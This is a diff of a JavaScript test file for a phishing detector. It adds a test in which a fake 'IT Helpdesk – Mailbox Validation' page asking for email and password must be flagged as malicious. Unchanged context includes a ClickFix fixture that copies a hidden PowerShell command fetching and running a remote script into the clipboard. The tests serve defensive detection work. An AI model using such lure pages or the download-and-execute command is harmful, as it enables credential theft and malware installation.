@@ -325,6 +325,12 @@ describe('analysis: signal rules', () => {
       assert.ok(result.decidedBy?.includes('combo:lure-credentials') && result.decidedBy.includes('combo:exfiltrated-credentials'));
     });
 
+    it('lures said to all staff: mailboxes to validate, accounts (plural) to be deactivated', () => {
+      const staff = kit('https://forms.quick-survey-maker.example/it-desk/validate', '<h1>IT Helpdesk – Mailbox Validation</h1><p>All staff must validate their mailbox before Friday. Unvalidated accounts will be deactivated.</p><form><input name="email"><input type="password" name="pw"></form>');
+      assert.ok(has(staff.signals, 'lure-text'), JSON.stringify(staff.signals.map((x) => x.id)));
+      assert.equal(staff.result.verdict, 'malicious');
+    });
+
     it('ClickFix: a shell command written to the clipboard beside Run-dialog steps; a copy button alone is clean', () => {
       const { signals, result } = kit('https://c.example/', `<p>I'm not a robot</p><ol><li>Press Windows Button + R</li><li>Press CTRL + V</li></ol><script>b.onclick=()=>navigator.clipboard.writeText("powershell -w hidden -c iwr https://x/a.ps1 | iex")</script>`);
       for (const id of ['clipboard-shell-command', 'run-dialog-instructions', 'fake-captcha']) assert.ok(has(signals, id), id);
